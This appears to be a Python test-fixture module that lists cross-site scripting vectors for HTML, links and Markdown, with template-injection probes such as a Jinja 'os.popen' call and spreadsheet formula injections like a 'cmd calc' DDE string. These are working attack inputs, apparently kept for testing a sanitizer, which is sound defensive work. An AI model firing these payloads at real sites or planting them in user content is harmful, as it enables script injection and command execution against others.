# ruff: noqa: E501  a vector is as long as it is
"""Ways to have a page run script, by class: what a hostile contributor would write into a text or a Markdown body."""

from __future__ import annotations

__all__ = ["HTML", "LINKS", "MARKDOWN", "TEXTS"]

RUN = "alert(1)"
FAR = "https://far.example/x"

HTML = [
    # elements that run or load
    f"<script>{RUN}</script>", f"<SCRIPT SRC={FAR}></SCRIPT>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\x0b>{RUN}</script>", f"<script/x>{RUN}</script>", "<script>alert`1`</script foo>",
    f"<iframe src='javascript:{RUN}'></iframe>", f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data='javascript:{RUN}'></object>", f"<embed src='{FAR}'>", f"<link rel=stylesheet href='{FAR}'>",
    f"<base href='{FAR}'>", f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>", f"<portal src='{FAR}'>", f"<frameset onload={RUN}>",
    # handlers
    f"<img src=x onerror={RUN}>", f"<img/src=x/onerror={RUN}>", f"<img src=x onerror\n=\n{RUN}>", f"<img src=x onerror&#x3d;{RUN}>",
    f"<body onload={RUN}>", f"<details open ontoggle={RUN}>x</details>", f"<input autofocus onfocus={RUN}>",
    f"<b onmouseover={RUN} tabindex=1 autofocus onfocus={RUN}>x</b>", f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>", f"<marquee onstart={RUN}>x</marquee>", f"<a onpointerenter={RUN} href=x>x</a>",
    f"<p style='animation-name:x' onanimationstart={RUN}>x</p>", f"<xss id=x onfocus={RUN} tabindex=1>x</xss>",
    # other namespaces, and parsers that disagree
    f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><script href='data:,{RUN}'/></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>", f"<svg><set attributeName=onload to={RUN}></svg>",
    f"<svg></p><style><a id=\"</style><img src=x onerror={RUN}>\">",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={RUN}&gt;\">",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>", f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<title><img title='</title><img src=x onerror={RUN}>'>", f"<textarea><img title='</textarea><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->", f"<!-- --!><img src=x onerror={RUN}>", f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml <img src=x onerror={RUN}>?>", f"<template><img src=x onerror={RUN}></template>", f"<select><style></select><img src=x onerror={RUN}>",
    f"</p></div></main><img src=x onerror={RUN}>", f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>", f"<plaintext><img src=x onerror={RUN}>",
    # forms, styles
    f"<form action='javascript:{RUN}'><button>x</button></form>", f"<button formaction='javascript:{RUN}'>x</button>",
    f"<isindex action='javascript:{RUN}' type=image>", "<style>@import 'https://far.example/x';</style>",
    "<p style='background:url(https://far.example/x)'>x</p>", "<div style=\"position:fixed;inset:0\">x</div>",
    f"<img srcset='{FAR} 1x'>", f"<img src='{FAR}'>", f"<picture><source srcset='{FAR}'><img></picture>", f"<video poster='{FAR}'></video>",
    f"<table background='{FAR}'><tr><td background='{FAR}'>x</table>", f"<input type=image src='{FAR}'>", f"<a ping='{FAR}' href=x>x</a>",
]  # fmt: skip
LINKS = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}", f"\x01javascript:{RUN}",
    f"javascript&colon;{RUN}", f"&#106;avascript:{RUN}", f"&#x6A;avascript:{RUN}", f"&#0000106avascript:{RUN}", f"javascript&#58;{RUN}",
    f"java&Tab;script:{RUN}", f"java&NewLine;script:{RUN}", f"javascript\u200b:{RUN}", f"\ufeffjavascript:{RUN}", f"ｊavascript:{RUN}",
    f"vbscript:{RUN}", f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={RUN}>", f"view-source:javascript:{RUN}", f"feed:javascript:{RUN}", f"jar:javascript:{RUN}!/",
    f"javascript://%0a{RUN}", f"//\\javascript:{RUN}", "blob:x", "filesystem:x", "intent://x#Intent;end",
]  # fmt: skip
TEXTS = [
    *HTML,
    *LINKS,
    "{{ 7*7 }}{{ cycler.__init__.__globals__.os.popen('id') }}",
    "{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %> [[${7*7}]]",
    "%(url)s {0.__class__} %s %n",
    f"' onmouseover={RUN} x='",
    f'" autofocus onfocus={RUN} x="',
    f"`-{RUN}-`",
    f"</title><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"\u2028{RUN}\u2029//",
    "\u202egnp.exe\u2066",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '=HYPERLINK("https://far.example/","x")',
    "+1+cmd|' /C calc'!A0",
]
MARKDOWN = [
    *HTML,
    *(f"[x]({link})" for link in LINKS), *(f"[x](<{link}>)" for link in LINKS), *(f"[x][y]\n\n[y]: {link}" for link in LINKS),
    *(f"<{link}>" for link in LINKS), *(f"![x]({link})" for link in LINKS), *(f'<a href="{link}">x</a>' for link in LINKS),
    f'[x](y "t\\" onmouseover={RUN} z=\\"")', f'![x" onerror={RUN} y="](z)', f"![x](z'onerror={RUN})", f'[x](<y" onclick={RUN} z=">)',
    f"x{{: onclick={RUN} }}", f"# x {{: onmouseover={RUN} style=position:fixed }}", f"[x](y){{: href=javascript:{RUN} onclick={RUN} }}",
    f"`x`{{: onclick={RUN} }}", f"![x](y){{: onerror={RUN} src={FAR} }}", f"| a {{: onclick={RUN} }} |\n| --- |\n| b |",
    f"[^1]\n\n[^1]: <img src=x onerror={RUN}>", f'[^x" onclick="{RUN}]\n\n[^x" onclick="{RUN}]: y', f"``` x\" onclick={RUN}\ny\n```",
    f"```{{ .x onclick={RUN} }}\ny\n```", f"!!! note \"<img src=x onerror={RUN}>\"\n    x", f'!!! x" onclick="{RUN}\n    x',
    f"x\n:   <svg onload={RUN}>", f"- [ ] <img src=x onerror={RUN}>", f"<http://x\"onmouseover={RUN}>", f"<a@x.y\"onmouseover={RUN}>",
    f"<div markdown=1 onclick={RUN}>\n*x*\n</div>", f"&lt;img src=x onerror={RUN}&gt;", f"<p>\n\n<img src=x onerror={RUN}>\n\n</p>",
    f"\x02klzzwxh:0000\x03<script>{RUN}</script>", f"*[HTML]: <script>{RUN}</script>\n\nHTML", f"<b\n onclick={RUN}>x</b>", f"<<script>{RUN}//<</script>",
]  # fmt: skip
